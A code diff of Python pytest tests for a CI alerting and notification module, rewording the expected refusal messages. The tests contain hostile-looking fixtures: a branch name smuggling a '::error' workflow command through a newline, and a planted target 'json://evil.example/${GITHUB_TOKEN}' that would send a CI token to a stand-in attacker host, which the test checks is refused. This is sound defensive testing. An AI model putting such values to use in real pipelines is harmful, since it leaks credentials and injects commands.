@@ -86,7 +86,7 @@ def test_a_default_branch_is_not_a_pattern() -> None:
 @pytest.mark.parametrize("event", [CiEvent.PULL_REQUEST, CiEvent.MERGE_QUEUE])
 def test_a_pull_request_sends_no_alert_even_from_a_branch_called_main(event: CiEvent) -> None:
     notify = alerting({Occasion.DROP: (A,)}, branches=("main",))
-    assert why(notify, replace(MAIN, event=event)) == "pull requests alert nobody"
+    assert why(notify, replace(MAIN, event=event)) == "pull requests send no alerts"
 
 
 def test_quiet_hours_are_respected() -> None:
@@ -99,7 +99,7 @@ def test_quiet_hours_are_respected() -> None:
 def test_having_nothing_to_send_has_a_reason() -> None:
     assert why(NotifySettings()) == "[notify] names no target"
     assert why(telling(Occasion.DIGEST)) == "[notify] names no target"
-    assert why(telling(Occasion.DROP), now=GREEN) == "nothing changed that a target wants to hear of"
+    assert why(telling(Occasion.DROP), now=GREEN) == "nothing changed for the occasions of a target"
     assert why(telling(Occasion.DROP), replace(MAIN, branch="x\n::error")) == r"branch x\n::error is none of main"
     assert why(telling(Occasion.DROP), replace(MAIN, branch="")) == "branch (none) is none of main"
 
@@ -132,8 +132,8 @@ def test_a_spooled_parcel_goes_only_where_the_policy_sends_one() -> None:
     (one,) = parcels(RED, None, policy.notify)
     assert NOTIFY.refusal(one, policy) == ""
     planted = replace(one, body={**one.body, "target": "json://evil.example/${GITHUB_TOKEN}"})
-    assert NOTIFY.refusal(planted, policy) == "its target does not stand in [notify]"
-    assert NOTIFY.refusal(replace(one, body={}), policy) == "its target does not stand in [notify]"
+    assert NOTIFY.refusal(planted, policy) == "its target is not in [notify]"
+    assert NOTIFY.refusal(replace(one, body={}), policy) == "its target is not in [notify]"
 
 
 DIGEST = (
